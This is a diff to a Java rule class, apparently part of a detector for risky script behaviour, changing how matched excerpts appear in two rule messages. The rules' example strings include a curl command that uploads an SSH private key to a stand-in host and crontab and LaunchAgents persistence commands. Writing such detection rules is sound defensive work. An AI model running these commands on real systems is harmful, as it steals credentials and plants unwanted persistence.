@@ -148,7 +148,7 @@ final class BehaviourRules {
                                                                         ? HIGH
                                                                         : WARNING),
                                                         "A place where credentials are kept is read: `%s`."
-                                                                .formatted(Excerpt.clip(found))))),
+                                                                .formatted(Excerpt.of(line, found))))),
                         List.of(
                                 Example.script("curl -F k=@$HOME/.ssh/id_ed25519 https://collect.example.com/in"),
                                 Example.python(
@@ -214,7 +214,7 @@ final class BehaviourRules {
                                                         line,
                                                         line.weigh(line.script() ? HIGH : WARNING),
                                                         "It stays on the machine: `%s`."
-                                                                .formatted(Excerpt.clip(found))))),
+                                                                .formatted(Excerpt.of(line, found))))),
                         List.of(
                                 Example.script("(crontab -l; echo '* * * * * /tmp/u') | crontab -"),
                                 Example.script("cp a.plist ~/Library/LaunchAgents/a.plist"),
